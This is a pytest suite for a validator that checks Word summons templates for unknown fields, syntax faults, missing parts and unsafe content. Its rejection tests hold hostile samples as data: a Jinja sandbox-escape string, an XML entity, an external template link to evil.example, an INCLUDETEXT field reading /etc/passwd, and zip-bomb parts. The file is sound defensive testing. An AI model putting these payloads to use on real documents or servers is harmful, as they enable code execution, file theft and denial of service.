"""What is wrong with a Word template is told with its place; what is dangerous is refused before it is opened."""

import io
from collections.abc import Callable
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document
from docx.document import Document as WordDocument

from khaigiang.papers.template_check import Finding, fields_of, findings
from khaigiang.papers.word_filling import TEMPLATES, shipped

NAMES = sorted(
    f"{file.parent.name}/{file.stem}" for skin in ("party", "state") for file in (TEMPLATES / skin).glob("*.docx")
)


def changed(name: str, change: Callable[[WordDocument], object]) -> bytes:
    """A shipped template after a clerk has changed it in Word."""
    document = Document(io.BytesIO(shipped(name)))
    change(document)
    written = io.BytesIO()
    document.save(written)
    return written.getvalue()


def adding(text: str) -> bytes:
    return changed("state/summons", lambda document: document.add_paragraph(text))


def packed(**parts: bytes) -> bytes:
    """The shipped summons with further parts, or with parts replaced."""
    written = io.BytesIO()
    with ZipFile(io.BytesIO(shipped("state/summons"))) as old, ZipFile(written, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return written.getvalue()


def part_of(name: str) -> bytes:
    with ZipFile(io.BytesIO(shipped("state/summons"))) as file:
        return file.read(name)


@pytest.mark.parametrize("name", NAMES)
def test_the_shipped_templates_have_no_fault(name: str) -> None:
    assert findings(shipped(name), name) == []


def test_a_template_may_be_restyled_and_print_other_facts_of_its_people() -> None:
    def change(document: WordDocument) -> None:
        document.add_paragraph("Ghi chú: in theo mẫu của Trường.")
        document.tables[1].cell(2, 3).paragraphs[0].runs[0].text = "{{ row.ethnicity }}, {{ row.phone|upper }}"

    assert findings(changed("state/summons", change), "state/summons") == []


def test_an_unknown_field_is_told_with_its_place_and_the_nearest_known_one() -> None:
    def change(document: WordDocument) -> None:
        document.tables[1].cell(2, 1).paragraphs[0].runs[0].text = "{{ row.nme }}"

    found = findings(changed("state/summons", change), "state/summons")

    assert found == [Finding(kind="unknown", what="nme", place="2.3.2", nearest="name")]


def test_an_unknown_field_in_the_text_names_its_paragraph() -> None:
    [found] = findings(adding("Kính gửi {{ adressees }}"), "state/summons")

    assert (found.kind, found.what, found.nearest) == ("unknown", "adressees", "addressees")
    assert found.place.isdecimal()


@pytest.mark.parametrize("tag", ["{%p for text in opening %}", "{%p endif %}", "{%p if draft %}"])
def test_a_loop_that_is_not_closed_is_told_with_its_tag(tag: str) -> None:
    [found] = findings(adding(tag), "state/summons")

    assert found.kind == "syntax"
    assert tag in found.place


def test_what_an_official_paper_needs_may_not_be_left_out() -> None:
    def change(document: WordDocument) -> None:
        table = document.tables[1]._tbl
        table.getparent().remove(table)

    assert findings(changed("state/summons", change), "state/summons") == [Finding(kind="missing", what="trainees")]


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "__class__"),
        ("{{ issuer.upper() }}", "call"),
        ("{{ issuer|attr('x') }}", "attr"),
        ("{{ 'a' * 99999999 }}", "mul"),
        ("{% include 'x' %}", "include"),
        ("{% import 'os' as os %}", "import"),
        ("{% set x = 1 %}", "assign"),
        ("{% macro m() %}x{% endmacro %}", "macro"),
    ],
)
def test_what_runs_or_calculates_is_forbidden(text: str, what: str) -> None:
    assert ("forbidden", what) in [(one.kind, one.what) for one in findings(adding(text), "state/summons")]


def test_a_loop_over_everybody_within_a_loop_over_everybody_is_forbidden() -> None:
    text = "{% for a in trainees %}{% for b in trainees %}{{ b.name }}{% endfor %}{% endfor %}"

    assert [(one.kind, one.what) for one in findings(adding(text), "state/summons")] == [("forbidden", "for")]


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (packed(**{"word/vbaProject.bin": b"x"}), "macro"),
        (packed(**{"word/embeddings/oleObject1.bin": b"x"}), "macro"),
        (
            packed(**{"[Content_Types].xml": part_of("[Content_Types].xml").replace(b"wordprocessingml.document.main", b"macroEnabled.main")}),
            "macro",
        ),
        (packed(**{"word/document.xml": b"<!DOCTYPE x [<!ENTITY y 'z'>]>" + part_of("word/document.xml")}), "entity"),
        (
            packed(**{"word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="t" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'}),
            "link",
        ),
        (
            packed(**{"word/document.xml": part_of("word/document.xml").replace(b"<w:body>", b'<w:body><w:p><w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r></w:p>', 1)}),
            "link",
        ),
        (packed(**{f"word/media/{number}.xml": b"" for number in range(500)}), "size"),
        (packed(**{"word/media/zeros.xml": bytes(50 * 1024 * 1024)}), "size"),
    ],
    ids=["macro", "embedded", "macro type", "entities", "external", "fetching field", "many parts", "bomb"],
)  # fmt: skip
def test_a_dangerous_file_is_refused_before_it_is_opened(content: bytes, what: str) -> None:
    assert [(one.kind, one.what) for one in findings(content, "state/summons")][:1] == [("unsafe", what)]


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"%PDF-1.7", b"no zip at all"])
def test_what_is_no_word_file_is_told(content: bytes) -> None:
    assert [one.kind for one in findings(content, "state/summons")] == ["unreadable"]


def test_the_fields_of_a_paper_are_told_with_those_that_must_stand_there() -> None:
    fields = {one.name: one for one in fields_of("party/summons")}

    assert {name for name, one in fields.items() if one.is_required} == {
        "draft",
        "issuer",
        "number",
        "place_date",
        "sign",
        "trainees",
    }
    assert {"name", "born", "phone", "ethnicity"} <= set(fields["trainees"].of_rows)
    assert set(fields["sign"].of_rows) == {"authority", "name", "title"}
